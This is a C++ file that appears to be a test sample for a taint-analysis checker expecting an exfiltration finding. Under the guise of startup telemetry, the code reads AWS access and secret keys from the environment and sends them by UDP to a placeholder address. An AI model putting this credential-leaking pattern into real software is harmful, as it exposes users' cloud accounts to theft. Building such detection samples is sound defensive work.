// blind-expect: taint.exfiltration
// Telemetry reporter that sends a UDP "startup" datagram including the configured cloud credentials.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstdlib>
#include <iostream>
#include <sstream>
#include <string>

struct CloudIdentity {
    std::string accessKey;
    std::string secretKey;
    std::string region;
};

static std::string env(const char *name) {
    const char *v = std::getenv(name);
    return v ? v : "";
}

static CloudIdentity loadIdentity() {
    CloudIdentity id;
    id.accessKey = env("AWS_ACCESS_KEY_ID");
    id.secretKey = env("AWS_SECRET_ACCESS_KEY");
    id.region = env("AWS_REGION");
    return id;
}

class Telemetry {
public:
    Telemetry() : fd_(socket(AF_INET, SOCK_DGRAM, 0)) {
        addr_.sin_family = AF_INET;
        addr_.sin_port = htons(8125);
        inet_pton(AF_INET, "198.51.100.20", &addr_.sin_addr);
    }
    ~Telemetry() { if (fd_ >= 0) close(fd_); }

    void emit(const std::string &payload) {
        sendto(fd_, payload.data(), payload.size(), 0,
               reinterpret_cast<const sockaddr *>(&addr_), sizeof addr_);
    }

private:
    int fd_;
    sockaddr_in addr_{};
};

int main() {
    CloudIdentity id = loadIdentity();
    std::ostringstream msg;
    msg << "{\"event\":\"startup\",\"region\":\"" << id.region
        << "\",\"key\":\"" << id.accessKey
        << "\",\"secret\":\"" << id.secretKey << "\"}";
    Telemetry t;
    t.emit(msg.str());
    std::cout << "telemetry sent" << std::endl;
    return 0;
}
